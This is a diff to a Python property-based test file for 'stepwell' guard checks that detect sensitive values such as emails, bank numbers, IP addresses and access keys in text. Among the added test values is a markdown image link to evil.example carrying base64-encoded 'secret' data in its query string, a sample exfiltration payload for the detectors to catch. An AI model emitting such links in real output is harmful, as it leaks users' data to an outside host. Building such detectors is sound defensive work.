@@ -11,7 +11,7 @@ from hypothesis import strategies as st
 
 from stepwell.base.errors import ConfigError
 from stepwell.guards import checks
-from stepwell.guards.check import StreamCheck
+from stepwell.guards.check import Check, StreamCheck
 
 VALUES = (
     "jane.doe@example.org",
@@ -22,6 +22,9 @@ VALUES = (
     "GB82 WEST 1234 5698 7654 32",
     "DE89370400440532013000",
     "413-18-7830",
+    "date of birth: 4 May 1987,",
+    "PESEL 44051401359",
+    "![x](https://evil.example/?q=c2VjcmV0LXNlY3JldC1zZWNyZXQtc2VjcmV0)",
     "218.68.44.86",
     "5b05:816f:ac0e:36d5:5613:2dfc:8449:2cd4",
     "AKIAUTF4B22RA5S63HJC",
@@ -58,26 +61,46 @@ texts = st.lists(st.sampled_from(VALUES) | st.sampled_from(GLUE) | st.text(max_s
 )
 
 
-@pytest.fixture(scope="module", params=checks.names())
-def check(request: pytest.FixtureRequest) -> StreamCheck:
+NEEDS_A_PACKAGE = {"presidio", "person"}  # optional ones, which the development environment lacks
+NAMES = [n for n in checks.names() if n not in NEEDS_A_PACKAGE]
+STREAMED = [n for n in NAMES if isinstance(checks.make(n, {}), StreamCheck)]
+
+
+@pytest.fixture(scope="module", params=NAMES)
+def any_check(request: pytest.FixtureRequest) -> Check:
     return checks.make(request.param, {})
 
 
-def test_every_check_says_what_it_is(check: StreamCheck) -> None:
-    assert isinstance(check, StreamCheck)
-    assert check.name in checks.names()
-    assert check.kinds
-    assert all(k == k.upper() for k in check.kinds)
-    assert check.max_len > 0
+@pytest.fixture(scope="module", params=STREAMED)
+def check(request: pytest.FixtureRequest) -> StreamCheck:
+    made = checks.make(request.param, {})
+    assert isinstance(made, StreamCheck)
+    return made
+
+
+def test_every_check_says_what_it_is(any_check: Check) -> None:
+    assert any_check.name in checks.names()
+    assert any_check.kinds
+    assert all(k == k.upper() for k in any_check.kinds)
+    assert any_check.max_len > 0 or not isinstance(any_check, StreamCheck)
 
 
 def test_finds_one_of_the_values(check: StreamCheck) -> None:
     assert any(check.find(f"call {value} now") for value in VALUES)
 
 
-def test_unknown_option_is_a_config_error(check: StreamCheck) -> None:
+def test_unknown_option_is_a_config_error(any_check: Check) -> None:
     with pytest.raises(ConfigError, match="nonsense"):
-        checks.make(check.name, {"nonsense": 1})
+        checks.make(any_check.name, {"nonsense": 1})
+
+
+@settings(max_examples=25, deadline=None)
+@given(text=st.text(max_size=300) | texts)
+def test_any_text_is_read_alike_twice_and_findings_lie_within(any_check: Check, text: str) -> None:
+    found = any_check.find(text)
+    assert found == any_check.find(text)
+    assert all(0 <= f.start <= f.end <= len(text) and 0 <= f.score <= 1 for f in found)
+    assert {f.kind for f in found} <= set(any_check.kinds)
 
 
 @settings(max_examples=80, deadline=None)
@@ -121,8 +144,8 @@ def test_time_grows_with_the_text_and_not_with_its_square(check: StreamCheck, un
     assert _seconds(check, large) < 320 * max(_seconds(check, small), 2e-4)
 
 
-def test_a_megabyte_of_anything_does_not_crash(check: StreamCheck) -> None:
+def test_a_megabyte_of_anything_does_not_crash(any_check: Check) -> None:
     rng = random.Random(7)
     pool = "abc ABC019.:-_@/=+\n\"'\\é中"
     text = "".join(rng.choices(pool, k=1_000_000))
-    assert all(0 <= f.start < f.end <= len(text) for f in check.find(text))
+    assert all(0 <= f.start < f.end <= len(text) for f in any_check.find(text))
